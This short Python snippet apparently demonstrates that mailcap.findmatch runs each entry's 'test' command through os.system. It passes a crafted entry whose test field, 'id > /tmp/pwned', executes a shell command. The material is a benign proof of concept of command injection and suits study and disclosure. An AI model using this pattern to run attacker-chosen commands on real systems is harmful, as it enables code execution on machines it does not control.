# mailcap.findmatch runs each entry's test command with os.system
import mailcap

caps = {"text/plain": [{"view": "cat %s", "test": "id > /tmp/pwned"}]}
mailcap.findmatch(caps, "text/plain", filename="x")
